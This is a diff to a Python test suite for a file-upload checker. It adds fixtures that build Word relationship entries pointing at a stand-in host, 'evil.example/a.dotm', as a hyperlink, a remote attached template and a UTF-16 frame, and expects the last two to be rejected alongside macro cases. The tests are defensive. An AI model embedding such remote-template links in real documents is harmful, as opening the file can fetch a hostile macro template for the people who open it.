@@ -20,12 +20,22 @@ def packed(**parts: bytes) -> bytes:
     return out.getvalue()
 
 
+def _link(kind: str, coding: str = "utf-8") -> bytes:
+    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    said = (
+        f'<r:Relationship Id="a" Type="{space}/{kind}" Target="https://evil.example/a.dotm" TargetMode=\'External\'/>'
+    )
+    return said.encode(coding)
+
+
 WORD = {"word__document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}
 
 
 def test_papers_of_the_usual_kinds_are_taken_and_hashed() -> None:
     assert examine("完税证明.pdf", b"%PDF-1.7").sha256 == hashlib.sha256(b"%PDF-1.7").hexdigest()
     assert examine("说明.docx", packed(**WORD)).size > 0
+    linked = {"word___rels__document.xml.rels": _link("hyperlink")}  # a link that the reader has to follow
+    assert examine("说明.docx", packed(**WORD, **linked)).size > 0
     assert examine("照片.PNG", b"\x89PNG\r\n\x1a\n....").name == "照片.PNG"
 
 
@@ -42,6 +52,8 @@ def test_papers_of_the_usual_kinds_are_taken_and_hashed() -> None:
         ("表.xlsx", packed(**WORD), "CASE-004"),
         ("炸弹.docx", packed(**WORD, big=bytes(101 * 2**20)), "CASE-005"),
         ("宏.docx", packed(**WORD, **{"word__vbaProject.bin": b"x"}), "CASE-006"),
+        ("模板.docx", packed(**WORD, **{"word___rels__settings.xml.rels": _link("attachedTemplate")}), "CASE-006"),
+        ("框.docx", packed(**WORD, **{"word___rels__document.xml.rels": _link("frame", "utf-16")}), "CASE-006"),
         ("宏二.docx", packed(**{**WORD, "[Content_Types].xml": b"x.macroEnabled.main+xml"}), "CASE-006"),
     ],
 )
